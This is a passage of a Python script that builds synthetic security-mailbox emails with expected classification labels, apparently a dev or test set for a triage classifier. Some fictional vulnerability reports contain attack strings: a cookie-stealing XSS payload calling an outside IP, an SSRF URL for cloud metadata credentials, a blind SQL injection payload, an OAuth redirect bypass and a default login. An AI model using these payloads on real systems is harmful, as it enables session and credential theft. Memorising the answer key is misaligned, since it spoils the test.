#!/usr/bin/env python3
"""Write the hand-dev-3 mails (.eml) and expected.jsonl.

Every mail below is its own piece of writing; this script only takes care of
MIME structure, charsets and transfer encodings."""
import os, json
from email.message import EmailMessage
from email import policy

HERE = os.path.dirname(os.path.abspath(__file__))


def lab(kind, lang, cves=(), vec=None, score=None, rep=None, rem=None, cust=None):
    return {"kind": kind, "language": lang, "cve_ids": sorted(cves),
            "cvss_vector": vec, "cvss_score": score, "reported_score": rep,
            "has_remediation": rem is not None, "remediation_hint": rem,
            "has_customer_message": cust is not None, "customer_message_hint": cust}


MAILS = []

# ---------------------------------------------------------------- 001
MAILS.append(dict(
    file="001-ticket-subject-script.eml",
    headers={"From": "Tomasz Wrona <tw@pwnlab.example>",
             "To": "security@example.test",
             "Subject": "stored script injection via ticket subject (helpdesk.example.test)",
             "Date": "Tue, 11 Mar 2025 22:41:07 +0100",
             "Message-ID": "<a81f3c02-77d1@pwnlab.example>"},
    text="""Hi,

The subject line of a support ticket is rendered unescaped in the agent
view at https://helpdesk.example.test/agent/queue. A customer who opens a
ticket with the subject

  <img src=x onerror=fetch('//203.0.113.9/c?'+document.cookie)>

gets JavaScript running in the browser of whichever agent opens the queue
next. The agent session cookie is not HttpOnly, so the session can be
lifted from there.

Tested today against my own trial tenant, with alert(1) only and only
against my own agent account.

My scoring: cvss:3.1/av:n/ac:l/pr:l/ui:r/s:c/c:l/i:l/a:n

Request/response pairs available if you want them.

-- 
Tomasz
""",
    charset="utf-8", cte="7bit",
    labels=lab("vulnerability", "en", vec="CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N", score=5.4)))

# ---------------------------------------------------------------- 002
MAILS.append(dict(
    file="002-someone-in-our-panel.eml",
    headers={"From": "Dana Kowalczyk <dana.k@brightharbor.example>",
             "To": "security@example.test",
             "Subject": "Someone else in our control panel account",
             "Date": "Wed, 19 Mar 2025 09:02:55 +0100",
             "Message-ID": "<CAF9k2x-4410-dk@mail.brightharbor.example>"},
    text="""Hello security team,

We run about thirty domains with you under account BH-22817. This morning
around 07:40 our office manager got the "DNS zone updated" notification for
brightharbor.example, which nobody here had touched. The panel's activity
log shows a login at 03:12 UTC from 198.51.100.77 (we are in Lyon, none of
us were awake at that hour) and the MX records of two domains were pointed
at a host we don't recognise, mail.bh-relay.example.

So for roughly four hours our inbound mail went to that host. We don't
know yet what was in it.

What we have done so far: I put the MX records back by hand at 08:05,
changed the panel password, and switched on two-factor for all three users
on the account. The old password was, I'm embarrassed to say, reused on
another service that leaked last year, so that is the likely way in.

Could you send us whatever you have on that session (user agent, API
calls made) and tell us whether the API tokens on the account were used?
We have not revoked them yet because a deploy script depends on one.

Thanks,
Dana Kowalczyk
IT, Bright Harbor Logistics
""",
    charset="utf-8", cte="7bit",
    labels=lab("incident", "en", rem="changed the panel password")))

# ---------------------------------------------------------------- 003
MAILS.append(dict(
    file="003-question-build-images.eml",
    headers={"From": "Priya Raman <priya.raman@quillstack.example>",
             "To": "security@example.test",
             "Subject": "Question re CVE-2025-27310 and your Build Runner images",
             "Date": "Thu, 27 Mar 2025 15:18:40 +0000",
             "Message-ID": "<20250327151840.GA2291@quillstack.example>"},
    text="""Hi there,

Quick one. Our compliance lead saw CVE-2025-27310 in this week's feed (it
is listed with a CVSS of 9.8, remote code execution in the tar handling of
libtarpit). We use your managed "Build Runner" CI images, the ubuntu-22 and
debian-12 flavours, and I can't easily tell from inside the container
which version of libtarpit is baked in, or whether it's there at all.

Is anything you ship affected? And if so, is there a published timeline
for refreshed images? We only need a yes/no for our risk register at this
stage.

Regards,
Priya Raman
Platform Engineering, Quillstack
""",
    charset="utf-8", cte="7bit",
    labels=lab("unknown", "en", cves=["CVE-2025-27310"], rep=9.8)))

# ---------------------------------------------------------------- 004
MAILS.append(dict(
    file="004-northcert-beaconing-host.eml",
    headers={"From": "NorthCERT Operations <ops@northcert.example>",
             "To": "abuse@example.test, security@example.test",
             "Subject": "[NorthCERT #2025-0412-118] Compromised host in your network - 203.0.113.58",
             "Date": "Sat, 12 Apr 2025 07:30:12 +0000",
             "Message-ID": "<nc-2025-0412-118.1@northcert.example>"},
    text="""Dear network operator,

NorthCERT has received information that the host below, located in address
space registered to your organisation, has been communicating with
infrastructure associated with the "Quasar Loader" malware family.

  IP address:      203.0.113.58
  First seen:      2025-04-11 22:47 UTC
  Last seen:       2025-04-12 05:13 UTC
  Destination:     198.51.100.201:443 (known C2)
  Observations:    137 connections, periodic (≈180 s)
  Data source:     sinkhole operated by a partner organisation

Recommended action: identify the customer or system behind this address,
take the host off the network and rebuild it from a known-good image.
Credentials stored on or used from the host should be considered exposed.

Replies that keep the reference in the subject line reach an analyst.

NorthCERT Operations
""",
    charset="utf-8", cte="8bit",
    html="""<html><body style="font-family:Arial,sans-serif;font-size:13px">
<p>Dear network operator,</p>
<p>NorthCERT has received information that the host below, located in address
space registered to your organisation, has been communicating with
infrastructure associated with the &quot;Quasar Loader&quot; malware family.</p>
<table border="1" cellpadding="4" cellspacing="0">
<tr><th align="left">IP address</th><td>203.0.113.58</td></tr>
<tr><th align="left">First seen</th><td>2025-04-11 22:47 UTC</td></tr>
<tr><th align="left">Last seen</th><td>2025-04-12 05:13 UTC</td></tr>
<tr><th align="left">Destination</th><td>198.51.100.201:443 (known C2)</td></tr>
<tr><th align="left">Observations</th><td>137 connections, periodic (&asymp;180 s)</td></tr>
<tr><th align="left">Data source</th><td>sinkhole operated by a partner organisation</td></tr>
<tr><th align="left">Recommended action</th><td>identify the customer or system behind this address,
take the host off the network and rebuild it from a known-good image.
Credentials stored on or used from the host should be considered exposed.</td></tr>
</table>
<p>Replies that keep the reference in the subject line reach an analyst.</p>
<p>NorthCERT Operations</p>
</body></html>
""",
    html_cte="quoted-printable",
    labels=lab("incident", "en", rem="take the host off the network")))

# ---------------------------------------------------------------- 005
MAILS.append(dict(
    file="005-bounty-invoice-pdf.eml",
    headers={"From": "h4ckerm0m <h4ckerm0m@bountymail.example>",
             "To": "security@example.test",
             "Subject": "[Bounty] /api/v3/invoices/{id}/pdf returns any organisation's invoice",
             "Date": "Mon, 14 Apr 2025 01:12:33 +0000",
             "Message-ID": "<5f0e9b1c.bm.0414@bountymail.example>"},
    text="""## Summary

The invoice PDF endpoint checks that the caller is authenticated but not
that the invoice belongs to the caller's organisation. Invoice ids are
sequential integers, so every invoice on the platform can be fetched by
walking the range.

## Steps to reproduce

1. Create two free accounts, A and B, in different organisations.
2. As B, create an invoice and note its id (e.g. `88412`).
3. As A, send:

   ```
   GET /api/v3/invoices/88412/pdf HTTP/1.1
   Host: billing.example.test
   Authorization: Bearer <token of A>
   ```

4. B's invoice comes back (200, application/pdf), billing address and VAT
   number included.

## Impact

Names, addresses, VAT numbers and line items of every customer. I stopped
as soon as it worked between my own two accounts and requested nothing
else.

## Severity

CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N

## Suggested fix

Scope the lookup by the organisation in the token
(`WHERE id = ? AND org_id = ?`) and answer 404 otherwise. Moving to random
UUIDs would make enumeration harder but is not a fix on its own.

-- h4ckerm0m
""",
    charset="utf-8", cte="7bit",
    labels=lab("vulnerability", "en", vec="CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N",
               score=7.1, rem="Scope the lookup by the organisation")))

# ---------------------------------------------------------------- 006
MAILS.append(dict(
    file="006-fw-revalidate-mails.eml",
    headers={"From": "Marco Bellandi <marco.bellandi@example.test>",
             "To": "security@example.test",
             "Subject": "FW: Mails with your logo asking our staff to \"re-validate\" hosting accounts",
             "Date": "Mon, 07 Apr 2025 15:05:19 +0200",
             "Message-ID": "<AM9PR02MB7731C0F1@example.test>"},
    text="""Forwarding from Ilse at Kestrel Media, one of our reseller partners. Three
of her people got this today and one nearly typed in her password. I
checked the link domain: not ours, registered last Friday.

I think we should get ahead of it. A short notice on the customer portal
login page would help, something like "We never ask you to re-validate your
account by e-mail; messages saying otherwise do not come from us." Comms
can polish the wording.

Marco

________________________________
From: Ilse Vandenberg <ilse.vandenberg@kestrelmedia.example>
Sent: Monday, 7 April 2025 14:32
To: Marco Bellandi <marco.bellandi@example.test>
Subject: Mails with your logo asking our staff to "re-validate" hosting accounts

Hi Marco,

Heads-up: since this morning several of us have received a mail that looks
exactly like your billing notifications (same logo, same footer) saying the
hosting account will be suspended unless we "re-validate" within 24 hours.
The button goes to https://example-test-billing.example/validate and the
sender is billing@examp1e-test.example.

Has anyone else reported this? One of them is attached as .eml.

Ilse
""",
    charset="utf-8", cte="7bit",
    labels=lab("incident", "en", cust="never ask you to re-validate")))

# ---------------------------------------------------------------- 007
MAILS.append(dict(
    file="007-threat-brief-newsletter.eml",
    headers={"From": "Cobalt Perimeter Newsletter <news@cobaltperimeter.example>",
             "To": "security@example.test",
             "Subject": "Threat Brief #47: edge devices, CVE-2025-21102 recap and our spring webinar",
             "Date": "Tue, 15 Apr 2025 06:00:00 +0000",
             "Message-ID": "<tb47.20250415.0600@lists.cobaltperimeter.example>"},
    text="""COBALT PERIMETER - THREAT BRIEF #47
April 2025

In this issue
  * Edge appliances remain the favourite way in
  * Recap: CVE-2025-21102 and CVE-2025-19944 in popular VPN gateways
  * Webinar: "From advisory to action in 72 hours"

EDGE APPLIANCES REMAIN THE FAVOURITE WAY IN
Across the engagements our responders handled in Q1, more than half began
at an internet-facing appliance: VPN gateways, file transfer servers and
firewalls whose management interfaces were reachable from anywhere. Dwell
time before detection averaged eleven days.

RECAP
Both CVEs were disclosed in February and exploitation was reported within
days. Our research team's write-up walks through the timeline and the
detection opportunities we saw in customer telemetry:
https://research.cobaltperimeter.example/tb47-recap

WEBINAR
Join principal analyst Rhea Okafor on 29 April at 16:00 CET for a
practical hour on triaging advisories when everything is urgent.
Register: https://events.cobaltperimeter.example/72h

--
You are receiving this because you subscribed to the Cobalt Perimeter
Threat Brief. Unsubscribe: https://cobaltperimeter.example/u/7781ac
Cobalt Perimeter B.V., Keizersgracht 1, Amsterdam
""",
    charset="utf-8", cte="7bit",
    labels=lab("unknown", "en", cves=["CVE-2025-19944", "CVE-2025-21102"])))

# ---------------------------------------------------------------- 008
MAILS.append(dict(
    file="008-webhook-internal-address.eml",
    headers={"From": "Nguyen Van Hieu <hieu.nv@seclab-hanoi.example>",
             "To": "security@example.test",
             "Subject": "Webhook feature can request internal address",
             "Date": "Fri, 18 Apr 2025 10:44:21 +0700",
             "Message-ID": "<CAB+7yq2Lr0@seclab-hanoi.example>"},
    text="""Dear Security Team,

I am security researcher and I found an issue in the webhook function of
your Deploy Dashboard (deploy.example.test). When user add a webhook URL,
the server make a POST request to that URL for testing. The server is not
checking where the URL is pointing, so I can put internal address and the
server will request it.

For example with URL
http://169.254.169.254/latest/meta-data/iam/security-credentials/
the "Test delivery" response body is showing in the dashboard, and it
contain the name of an IAM role. I did not go further, I did not request
the credentials themself.

I tried also http://127.0.0.1:6379/ and the error message is different
from a closed port, so internal port scanning is possible also.

I think severity is high, my calculate give CVSS 8.6.

Please fix this soon, and let me know if you need more information or a
video PoC. I would like to ask also if you have bug bounty program.

Best regards,
Nguyen Van Hieu
""",
    charset="utf-8", cte="7bit",
    labels=lab("vulnerability", "en", rep=8.6)))

# ---------------------------------------------------------------- 009
MAILS.append(dict(
    file="009-is-this-email-from-you.eml",
    headers={"From": "Gerald Pike <gerry.pike62@mailbox.example>",
             "To": "security@example.test",
             "Subject": "is this email from you???",
             "Date": "Sun, 20 Apr 2025 08:51:02 +0100",
             "Message-ID": "<B1C2E7F0-3A1D-4E55-9F0E-77A1C0D3E2AA@mailbox.example>"},
    text="""Hello,

I dont know if this is the right address, I found it on your website.
Yesterday I got an email that said it was from you, that my website would
be switched off because the payment did not go through, and I had to log
in to sort it out. I clicked and put in my username and password and also
my card number because it asked for it again. Then the page just went
blank.

This morning my daughter said it looked like a scam. Now when I try to log
in it says the password is wrong, and I have not changed it. My website
(pikeandsons-plumbing.example) still works but I can not get in.

Should I change my password? How, if I can't log in? Should I call the bank
too? Please tell me what to do, I am not very good with computers.

Gerald Pike

Sent from my iPad
""",
    charset="utf-8", cte="7bit",
    labels=lab("incident", "en")))

# ---------------------------------------------------------------- 010
MAILS.append(dict(
    file="010-partner-soc-sftp.eml",
    headers={"From": "soc-alerts@ridgeline-msp.example",
             "To": "security@example.test",
             "Subject": "[RL-SOC] sftp.example.test - auth volume spike",
             "Date": "Fri, 02 May 2025 04:58:40 +0000",
             "Message-ID": "<rlsoc-5521@ridgeline-msp.example>"},
    text="""Ridgeline MSP SOC / shift B / analyst J. Ortega

- target: sftp.example.test (203.0.113.20), tcp/22
- src: 198.51.100.0/24, 57 distinct addrs, single ASN
- window: 2025-05-02 01:58 -> 04:40 UTC, still going at lower rate
- ~41k password attempts; usernames from a common wordlist plus a few
  real ones (backup, deploy, ridgeline-sync)
- 2 successful logins as ridgeline-sync, 03:17 and 03:19 UTC, ~40 s each,
  no file transfer visible in our netflow

actions our side:
- ridgeline-sync switched to key-only, password auth off on our account
- src /24 dropped at our edge

suggest your side: rate-limit new ssh sessions per source; consider
password auth off for all partner accounts

24/7 line +39 02 0000 0000, ref RL-SOC-5521
""",
    charset="utf-8", cte="7bit",
    labels=lab("incident", "en", rem="src /24 dropped at our edge")))

# ---------------------------------------------------------------- 011
MAILS.append(dict(
    file="011-filevault-thumbnail-lib.eml",
    headers={"From": "Ana Lúcia Ferreira <alf@cinderbyte.example>",
             "To": "security@example.test",
             "Subject": "CVE-2025-30412 in the bundled image library of FileVault Pro 4.3",
             "Date": "Wed, 14 May 2025 17:26:09 -0300",
             "Message-ID": "<d7a4e1f6-0b3c-4f2e-a6d1-cinderbyte@cinderbyte.example>"},
    text="""Hello,

FileVault Pro 4.3.0 and 4.3.1 (the self-hosted Docker image, tag 4.3.1
pulled on 12 May) still bundle pixelforge 2.11.4. The advisory published by
the pixelforge maintainers last week covers a heap overflow in the TIFF
decoder, fixed in 2.11.7. In FileVault Pro the decoder is reached when
thumbnails are generated for uploaded files, so anyone who can upload,
including through the anonymous "file request" links, can trigger it.

I confirmed the crash with the maintainers' public test file. I have not
built a working exploit and don't intend to.

CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H

Bumping pixelforge to 2.11.7 in the image fixes it; until a new image is
out, setting THUMBNAILS_ENABLED=false keeps the decoder from being reached.

Since most self-hosting customers won't follow pixelforge's releases, it
would be worth letting them know that thumbnail generation in 4.3.x can be
abused through crafted TIFF uploads and that they should pull 4.3.2 as soon
as it is published.

Kind regards,
Ana Lúcia Ferreira
Cinderbyte
""",
    charset="utf-8", cte="8bit",
    labels=lab("vulnerability", "en", cves=["CVE-2025-30412"], vec="CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H",
               score=8.1, rem="Bumping pixelforge to 2.11.7", cust="crafted TIFF uploads")))

# ---------------------------------------------------------------- 012
MAILS.append(dict(
    file="012-backup-bucket-listable.eml",
    headers={"From": "Femi Adeyemi <femi.adeyemi@example.test>",
             "To": "security@example.test",
             "Cc": "Sofia Lind <sofia.lind@example.test>",
             "Subject": "Re: backup bucket listing",
             "Date": "Tue, 20 May 2025 11:37:52 +0200",
             "Message-ID": "<CAOq3Ff1x7bZ-femi@example.test>",
             "In-Reply-To": "<CAL0s1nd-9041@example.test>"},
    text="""Looping in security@ as agreed on the call.

Summary for the desk: the bucket "cust-backups-eu2" was set to public-read
on 14 May during the migration (my mistake in the Terraform module, the ACL
default flipped). The access log shows 2,300 GET requests from three
addresses we don't know, 192.0.2.14, 192.0.2.15 and 198.51.100.140, between
16 and 19 May. What they fetched are the nightly database dumps of 11
shared-hosting customers.

I made the bucket private again at 10:12 today and rotated the keys the
backup agents use. The Terraform change is in review.

For the customers I'd keep it factual and short. Draft:

  "Between 14 and 19 May a storage area holding backups of your hosting
  account was reachable without authentication because of a configuration
  error on our side. Access logs show that some of your backup files were
  downloaded by unknown parties. We have closed the access and will contact
  you to help you change the passwords stored in your databases."

Legal wants to see it before anything goes out.

Femi

On Tue, 20 May 2025 at 09:41, Sofia Lind <sofia.lind@example.test> wrote:
> Femi, why is cust-backups-eu2 showing up in the external exposure scan as
> listable? Was that intended for the migration? I see a lot of GETs in the
> log from outside our ranges.
>
> Sofia
""",
    charset="utf-8", cte="7bit",
    labels=lab("incident", "en", rem="made the bucket private again", cust="reachable without authentication")))

# ---------------------------------------------------------------- 013
MAILS.append(dict(
    file="013-oauth-redirect-prefix.eml",
    headers={"From": "Lukas Brenner <l.brenner@redcanyon-sec.example>",
             "To": "security@example.test",
             "Subject": "OAuth redirect_uri check can be bypassed on login.example.test",
             "Date": "Thu, 22 May 2025 13:09:44 +0200",
             "Message-ID": "<0e2c7d1a.lb@redcanyon-sec.example>"},
    html_only=True,
    html="""<html><head><meta charset="utf-8"></head><body>
<p>Hello,</p>
<p>The <code>redirect_uri</code> check on <b>login.example.test/oauth/authorize</b>
only verifies that the value <i>starts with</i> the registered URI. For the
first-party app registered with <code>https://app.example.test</code>, the value
<code>https://app.example.test.evil.example/cb</code> is accepted and the
authorization code is delivered to that host.</p>
<p>Because the first-party client is marked as trusted, no consent screen is
shown: someone who is already logged in and follows a crafted link hands over a
code that can be exchanged for an access token with full scope.</p>
<h3>Scoring</h3>
<p>CVSS:3.0/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:L/A:N</p>
<h3>Recommendation</h3>
<p>Compare the redirect URI with the registered values by exact string match
and reject anything else before a code is issued. Tokens already issued to
unexpected redirect hosts should be revoked.</p>
<p>If you publish a note for users, something along the lines of
<q>sign-in tokens issued before the fix could have been obtained by a third
party; we have invalidated them, so you may be asked to sign in again</q>
would cover it.</p>
<p>Best,<br>Lukas Brenner<br>Red Canyon Security</p>
</body></html>
""",
    charset="utf-8", cte="base64",
    labels=lab("vulnerability", "en", vec="CVSS:3.0/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:L/A:N", score=7.1,
               rem="by exact string match", cust="obtained by a third party")))

# ---------------------------------------------------------------- 014
MAILS.append(dict(
    file="014-pentest-authorisation.eml",
    headers={"From": "Rachel Okonjo <rachel.okonjo@tallyframe.example>",
             "To": "security@example.test",
             "Subject": "Request: authorisation for annual penetration test of our hosted tenant",
             "Date": "Mon, 26 May 2025 09:15:00 +0100",
             "Message-ID": "<LO2P265MB0931A@tallyframe.example>"},
    text="""Dear Security Team,

Tallyframe Ltd (customer account TF-00931) is planning its annual external
penetration test, carried out by Ironmoor Assurance, between 9 and 20 June
2025. Our contract with you requires prior written authorisation for any
testing against your infrastructure, so I am writing to request it.

Proposed scope:
- tallyframe.example.test and api.tallyframe.example.test (our tenant on
  your PaaS)
- source addresses: 192.0.2.200 to 192.0.2.210 (Ironmoor's egress)
- authenticated and unauthenticated web application testing, including
  checks for injection flaws, XSS, SSRF and known issues such as
  CVE-2021-44228
- no denial-of-service, no social engineering, nothing against shared
  components outside our tenant

Could you confirm whether this is acceptable, and whether you need
Ironmoor's insurance certificate or the names of the testers? Should
anything turn up that seems to affect the platform rather than our own
application, Ironmoor will report it to this address first.

Kind regards,
Rachel Okonjo
Information Security Manager, Tallyframe Ltd

This e-mail and any attachments are confidential and intended solely for
the addressee. If you have received it in error, please notify the sender
immediately and delete it from your system; you must not copy, forward,
disclose or otherwise use any part of it. Tallyframe Ltd does not accept
liability for any loss or damage arising from the use of this e-mail or
its attachments, and any views expressed in it are those of the author
and not necessarily those of the company. Tallyframe Ltd is registered in
England and Wales, company no. 00000000, registered office 1 Example Row,
Leeds.
""",
    charset="utf-8", cte="7bit",
    labels=lab("unknown", "en", cves=["CVE-2021-44228"])))

# ---------------------------------------------------------------- 015
MAILS.append(dict(
    file="015-edgecache-factory-login.eml",
    headers={"From": "Henrik Sæther <henrik@fjordlabs.example>",
             "To": "security@example.test",
             "Subject": "Factory login on the management console of the EdgeCache 7 marketplace image",
             "Date": "Thu, 12 Jun 2025 20:02:37 +0200",
             "Message-ID": "<7c1d0f55-hs-fjordlabs@fjordlabs.example>"},
    text="""Hello,

Background
----------
Your marketplace offers the EdgeCache 7 appliance image (publisher: Lumen
Relay Systems) as a one-click deployment. I deployed it on 2 June to
evaluate it for a client.

Finding
-------
The web management console on port 8443 of a freshly deployed instance
accepts the login admin / edgecache7. The first-run wizard does not
require changing it, and the image documentation does not mention the
account at all. The console lets you upload "plugin" archives that are
executed as root, so whoever reaches port 8443 owns the instance.

Looking only at banner data over the address ranges of your cloud (I did
not log into anything that isn't mine) I count roughly 140 consoles
answering with the same banner.

Status
------
I wrote to Lumen Relay on 3 June and again on 10 June and have had no
reply. As far as I can tell there is no updated image and no advisory.

Severity
--------
I'd put this at 9.1 (critical).

I would appreciate it if you could get in touch with the publisher and
warn the customers running this image. I intend to publish 90 days after
my first contact with the vendor unless there is a good reason to wait.

Regards,
Henrik Sæther
Fjord Labs, Bergen
""",
    charset="utf-8", cte="quoted-printable",
    labels=lab("vulnerability", "en", rep=9.1)))

# ---------------------------------------------------------------- 016
MAILS.append(dict(
    file="016-thanks-and-cve-id.eml",
    headers={"From": "Maya Lindqvist <maya@lindqvist.example>",
             "To": "Security Desk <security@example.test>",
             "Subject": "Re: [SEC-2025-0187] thanks + CVE id",
             "Date": "Fri, 13 Jun 2025 08:47:10 +0200",
             "Message-ID": "<CAMl9q=Zp0-maya@lindqvist.example>",
             "In-Reply-To": "<sec-2025-0187.7@example.test>"},
    text="""Hi all,

Just a short note to say thanks for how this one was handled. I retested
this morning against the production login and can no longer reproduce it.
MITRE has reserved CVE-2025-41733 for it; I've put your advisory URL as
the reference.

I'll publish my write-up on 1 July as we agreed, and send you the draft a
week before so you can check I haven't said anything inaccurate.

Cheers,
Maya

On Thu, 12 Jun 2025 at 16:20, Security Desk <security@example.test> wrote:
> Hello Maya,
>
> we believe the issue you reported is resolved in production as of
> 11 June. Could you retest when you have a moment?
>
> Kind regards,
> Security Desk
""",
    charset="utf-8", cte="7bit",
    labels=lab("unknown", "en", cves=["CVE-2025-41733"])))

# ---------------------------------------------------------------- 017
MAILS.append(dict(
    file="017-fwd-casino-redirect.eml",
    headers={"From": "Oskar Nyberg <oskar.nyberg@example.test>",
             "To": "security@example.test",
             "Subject": "Fwd: our website is showing casino ads??",
             "Date": "Wed, 21 May 2025 10:22:48 +0200",
             "Message-ID": "<CAHx0sk4r-oskar@example.test>"},
    text="""For the desk: I've suspended the vhost for winterbloom.example and taken a
disk snapshot before touching anything else. Looks like the usual: an
outdated form plugin (ContactPress 3.1), a PHP shell dropped in
wp-content/uploads/2025/05/, and injected JS in the theme footer that only
fires for mobile user agents. Nothing suggests the node itself was touched;
the other sites on web-14 look clean.

When we reply to her I'd say roughly this: her site was modified through
an out-of-date plugin installed in her WordPress, we've paused the site so
visitors stop being sent elsewhere, and we'll bring it back as soon as the
plugin is removed and the admin passwords are changed. Keep it friendly,
she's been with us ten years.

Oskar

---------- Forwarded message ---------
From: Helen Marsh <helen@winterbloom.example>
Date: Wed, 21 May 2025 at 08:03
Subject: our website is showing casino ads??
To: <support@example.test>


Hi, since yesterday when people go to winterbloom.example on their phone
they get sent to a casino page. On my laptop it looks normal. I haven't
changed anything. Can you help? Orders come in through the site so this
is urgent for us.

Helen Marsh
Winterbloom Flowers
""",
    charset="utf-8", cte="7bit",
    labels=lab("incident", "en", rem="suspended the vhost", cust="modified through an out-of-date plugin")))

# ---------------------------------------------------------------- 018
MAILS.append(dict(
    file="018-promo-credit-parallel.eml",
    headers={"From": "Camille Durand <camille.durand@grainline.example>",
             "To": "security@example.test",
             "Subject": "Promo credit can be redeemed several times with parallel requests",
             "Date": "Tue, 03 Jun 2025 14:33:05 +0200",
             "Message-ID": "<3b6e2a90-grl-4471@grainline.example>"},
    text="""Hello,

While testing our own reseller account I noticed that a single-use
promotional code (we were given WELCOME50, 50 EUR of credit) can be applied
many times if the redemption requests arrive at the same moment. With 20
parallel POSTs to /api/account/credit/redeem I got 7 successful responses
and the balance increased by 350 EUR. I have not used the credit and I
would like you to remove it from account GRL-4471.

I suppose the code is checked as "unused" and marked as "used" in two
separate steps, so several requests pass the check before any of them
writes.

I would rate it CVSS:3.1/AV:N/AC:H/PR:L/UI:N/S:U/C:N/I:H/A:N since it needs
an account and some luck with timing.

If the check and the update were done in one statement (UPDATE ... WHERE
used = false, then looking at the number of affected rows), or inside a
transaction holding a row lock, the double redemption would not be
possible anymore.

Best regards,
Camille Durand
Grainline Studio
""",
    charset="utf-8", cte="7bit",
    labels=lab("vulnerability", "en", vec="CVSS:3.1/AV:N/AC:H/PR:L/UI:N/S:U/C:N/I:H/A:N", score=5.3,
               rem="done in one statement")))

# ---------------------------------------------------------------- 019
MAILS.append(dict(
    file="019-fwd-csirt-credential-dump.eml",
    headers={"From": "Beatrice Holm <beatrice.holm@example.test>",
             "To": "security@example.test",
             "Subject": "Fwd: Credentials of your customers circulating - ref CSIRT-ACME-88213",
             "Date": "Thu, 05 Jun 2025 16:10:31 +0200",
             "Message-ID": "<6a0f1e2d-bh-88213@example.test>"},
    text="""Desk, see below. I cross-checked the list against the customer DB: 212 of
the 260 addresses are active accounts, and 37 of those had successful
logins from the two listed IPs in the last ten days, most of them followed
by a change of the account's notification address. Enough for me to treat
this as real.

I'd propose we mail the 212 with something along these lines: your
password for the example.test customer area appeared in a list of stolen
credentials published online; we have reset it and you will need to
choose a new one through the "forgot password" link; if you used the same
password anywhere else, change it there too.

Beatrice


-------- Forwarded Message --------
Subject: Credentials of your customers circulating - ref CSIRT-ACME-88213
Date: Thu, 5 Jun 2025 11:26:04 +0000
From: ACME Sector CSIRT <csirt@acme-csirt.example>
To: abuse@example.test

Hello,

During routine monitoring we found a text dump posted on a paste site on
2 June containing 260 e-mail/password pairs for accounts on
customer.example.test. The file header claims the data come from a
collection of infostealer logs. A sample with masked passwords:

  j.s***@mail.example : Su****23
  m.o***@post.example : w1n****!

The uploader claims to have "checked" the accounts from 203.0.113.77 and
203.0.113.78.

We recommend forcing a password reset for all listed accounts and
reviewing recent logins from the two addresses above. The full list is
available on request over an encrypted channel.

Regards,
ACME Sector CSIRT
""",
    charset="utf-8", cte="7bit",
    labels=lab("incident", "en", rem="forcing a password reset", cust="list of stolen credentials")))

# ---------------------------------------------------------------- 020
MAILS.append(dict(
    file="020-status-debug-vars.eml",
    headers={"From": "Raj Patel <rajp@dunmore-it.example>",
             "To": "security@example.test",
             "Subject": "status page leaking env",
             "Date": "Sat, 07 Jun 2025 23:04:12 +0100",
             "Message-ID": "<A4C1E2B0-77F3-4D2A-8C5E-0F19D2@dunmore-it.example>"},
    text="""hi - status.example.test/_debug/vars returns the whole process
environment, no auth. saw DB_PASSWORD, SMTP creds and something that looks
like a STRIPE_SECRET (didn't try any of them). probably left over from a
deploy.

pull that route from prod and rotate whatever was in there. I'd call it
7.5 (high), not more only because it's read-only.

Raj

Sent from my iPhone
""",
    charset="utf-8", cte="7bit",
    labels=lab("vulnerability", "en", rep=7.5, rem="pull that route from prod")))

# ================================================================ Italian
# ---------------------------------------------------------------- 021
MAILS.append(dict(
    file="021-iniezione-ordina-rivenditori.eml",
    headers={"From": "Alessandro Ferrante <a.ferrante@studiosicurezza.example>",
             "To": "security@example.test",
             "Cc": "Netsolve S.r.l. <tecnico@netsolve.example>",
             "Subject": "Iniezione SQL nel parametro \"ordina\" del pannello rivenditori",
             "Date": "Mon, 10 Mar 2025 18:20:33 +0100",
             "Message-ID": "<20250310182033.4f1a@studiosicurezza.example>"},
    text="""Gentile team di sicurezza,

nel corso di un'attività autorizzata da un Vostro rivenditore (Netsolve
S.r.l., in copia) ho riscontrato che il parametro "ordina" della pagina
https://partner.example.test/clienti/elenco viene inserito senza alcun
filtro nella clausola ORDER BY della query che estrae l'elenco clienti.

Passi per riprodurre:
1. Accedere al pannello con una qualsiasi utenza rivenditore.
2. Aprire l'elenco clienti e sostituire nell'URL ordina=nome con
   ordina=(CASE WHEN (SELECT SUBSTRING(password_hash,1,1) FROM utenti WHERE id=1)='$' THEN nome ELSE email END)
3. L'ordine delle righe cambia a seconda che la condizione sia vera o
   falsa: si può così estrarre, un carattere alla volta, il contenuto di
   qualunque tabella.

Mi sono fermato alla verifica del primo carattere; nessun altro dato è
stato estratto.

Vettore: CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:N

Resto a disposizione per una verifica congiunta e Vi chiedo cortesemente di
comunicarmi i tempi previsti per la correzione.

Cordiali saluti,

-- 
Alessandro Ferrante
Studio Sicurezza Ferrante - Torino
""",
    charset="utf-8", cte="quoted-printable",
    labels=lab("vulnerability", "it", vec="CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:N", score=8.1)))

# ---------------------------------------------------------------- 022
MAILS.append(dict(
    file="022-comune-casella-tributi.eml",
    headers={"From": "Comune di Valdirose - Servizio Sistemi Informativi <ced@comune.valdirose.example>",
             "To": "security@example.test",
             "Subject": "Segnalazione evento di sicurezza - casella istituzionale - prot. n. 4471/2025",
             "Date": "Tue, 17 Jun 2025 12:04:51 +0200",
             "Message-ID": "<prot4471.2025@comune.valdirose.example>"},
    text="""Spett.le Ufficio Sicurezza,

con riferimento al contratto di servizio per la posta elettronica
istituzionale in essere con codesta Società (CIG Z0A3B4C5D6), si comunica
quanto segue.

In data 16/06/2025, a seguito di segnalazioni pervenute da alcuni
cittadini, è stato accertato che dalla casella tributi@comune.valdirose.example
sono stati inviati, tra le ore 21:40 e le ore 23:15 del giorno 15/06/2025,
circa 1.800 messaggi recanti un avviso di pagamento TARI non autentico, con
collegamento a una pagina esterna di pagamento non riconducibile all'Ente.

